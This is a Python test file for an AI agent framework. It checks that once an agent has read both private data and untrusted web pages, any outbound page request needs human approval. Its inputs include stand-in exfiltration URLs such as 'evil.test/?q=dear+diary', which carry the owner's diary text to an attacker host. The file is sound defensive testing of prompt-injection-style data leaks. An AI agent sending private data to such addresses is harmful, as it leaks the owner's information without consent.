"""Private data, foreign text and a way out: together they ask a person, whatever was allowed before."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path
from typing import Annotated

import pytest

from auteryn.agent.taint import LABEL
from auteryn.policy.gates import ALLOW_FOR_RUN, DENY, FOREIGN
from auteryn.schema.plan import StepDraft
from auteryn.schema.run import Options
from auteryn.service.desk import Desk
from auteryn.service.fork import Fork
from auteryn.service.new import NewRun
from auteryn.testing.clock import skipping
from auteryn.testing.scenarios import given
from auteryn.testing.scripted import Ask, Line, call, safety
from auteryn.testing.world import World
from auteryn.tools.files import file_read, file_write
from auteryn.tools.time import wait
from auteryn.tools.tool import Judged, ToolContext, tool


@tool(effect="read", untrusted=True, sends=True)
async def page(ctx: ToolContext, url: Annotated[str, "Where"]) -> str:
    """Read a page."""
    return f"text of {url}"


@tool(effect="read", private=True)
async def diary(ctx: ToolContext) -> str:
    """The owner's diary."""
    return "dear diary"


FIRST, SECOND, DIARY = call("page", url="one"), call("page", url="two"), call("diary")


@pytest.mark.proves("L14")
def test_a_run_without_private_data_reads_page_after_page(tmp_path: Path) -> None:
    async def story() -> None:
        async with World(tmp_path, model=[FIRST, SECOND, "done"], tools=[page, diary]) as world:
            assert (await world.ended(await world.start("Read"))).status == "completed"

    skipping(story())


@pytest.mark.proves("L14")
@pytest.mark.parametrize("approve", ["ask", "auto"])
def test_with_private_data_and_foreign_text_every_way_out_is_asked_for(tmp_path: Path, approve: str) -> None:
    async def story() -> None:
        script = [FIRST, DIARY, SECOND, FIRST, "done"]
        async with World(tmp_path, model=script, tools=[page, diary]) as world:
            run = await world.start("Read", options=Options(approve=approve))
            for _ in range(2):  # a grant for the run does not cover it
                asked = await world.asked(run)
                assert asked.asks[0].subject is not None and asked.asks[0].subject.tool == "page"
                await world.answer(run, ALLOW_FOR_RUN, remember=True)
                await world.until(run, lambda now, ask=asked.asks[0].id: all(one.id != ask for one in now.asks))
            assert (await world.ended(run)).status == "completed"

    skipping(story())


@pytest.mark.proves("L14")
def test_what_the_steps_of_an_imported_run_had_read_is_known_where_it_comes_to(tmp_path: Path) -> None:
    async def story() -> None:
        async with World(tmp_path / "one", model=[[FIRST, call("wait", until="1d")], "done"], tools=[page, wait]) as world:
            desk = Desk(world.host.engine)
            old = (await desk.create(NewRun(input="Read", steps=(StepDraft(description="read"),)))).id
            await world.after(timedelta(hours=1))
            assert "page" not in (await desk.get(old)).used_tools, "its step has not ended"
            bundle = await desk.export(old)
        async with World(tmp_path / "two", tools=[page, wait]) as world:
            await Desk(world.host.engine).take_in(bundle)
            assert [doc.body for doc in await world.services.store.docs(LABEL, old)] == [FOREIGN]

    skipping(story())


@pytest.mark.proves("L14")
@pytest.mark.parametrize("how", ["retry", "fork"])
def test_what_another_run_left_in_the_files_a_run_begins_with_is_as_foreign_as_it_was(tmp_path: Path, how: str) -> None:
    saved, read = call("file_write", path="page.txt", content="text of one"), call("file_read", path="page.txt")
    lines = iter([FIRST, saved, safety(), read, DIARY, SECOND, "done"])

    async def story() -> None:
        async with World(tmp_path, model=lambda _: next(lines), tools=[page, diary, file_read, file_write]) as world:
            desk = Desk(world.host.engine)
            old = await desk.create(NewRun(input="Read", mode="deep"))
            assert (await world.ended(old.id)).status == "failed"
            new = await (desk.retry(old.id) if how == "retry" else desk.fork(old.id, Fork(after=1, effects="free")))
            asked = await world.asked(new.id)
            assert [ask.subject and ask.subject.tool for ask in asked.asks] == ["page"]

    skipping(story())


GOOD, EVIL = "https://shop.test/prices", "https://evil.test/?q=dear+diary"
NAMED = "https://named.test/prices"


@tool(
    effect="read",
    group="web",
    untrusted=True,
    judge=lambda args, files, run: Judged(target=args["url"], sends=True, url=args["url"]),
)
async def visit(ctx: ToolContext, url: Annotated[str, "Where"]) -> dict[str, str]:
    """Read a page."""
    return {"url": url, "text": f"You are at {url}. See {GOOD}"}


@pytest.mark.proves("L14")
@pytest.mark.parametrize(
    ("task", "before", "url", "asks"),
    [
        (f"Compare with {NAMED}", "https://a.test/", NAMED, False),
        ("Compare", "https://a.test/", GOOD, False),
        ("Compare", "https://a.test/", "https://shop.test/prices?q=dear+diary", True),
        ("Compare", EVIL, EVIL, True),
    ],
)
def test_an_address_is_free_that_the_owner_or_a_page_named_before_the_model_did(
    tmp_path: Path, task: str, before: str, url: str, asks: bool
) -> None:
    """A page that repeats what it was asked for makes no address known."""

    async def story() -> None:
        script = [call("visit", url=before), DIARY, call("visit", url=url), "done"]
        async with World(tmp_path, model=script, tools=[visit, diary]) as world:
            run = await world.start(task)
            now = await world.asked(run)
            assert [ask.subject.target for ask in now.asks if ask.subject] == ([url] if asks else [])
            if asks:
                await world.answer(run, DENY)
            assert (await world.ended(run)).status == "completed"

    skipping(story())


@pytest.mark.proves("L14")
def test_an_address_in_the_words_of_a_step_is_one_the_model_wrote(tmp_path: Path) -> None:
    def script(ask: Ask) -> Line:
        if given(ask).startswith("Visit"):
            return [call("visit", url=GOOD), DIARY, call("visit", url=EVIL), "done"][ask.turn]
        return "done"

    async def story() -> None:
        async with World(tmp_path, model=script, tools=[visit, diary]) as world:
            run = await world.start("Compare", plan=[f"Visit {EVIL}"])
            await world.waiting(run)
            _, step = await world.tree(run)
            asked = await world.asked(step.id)
            assert [ask.subject.target for ask in asked.asks if ask.subject] == [EVIL]

    skipping(story())
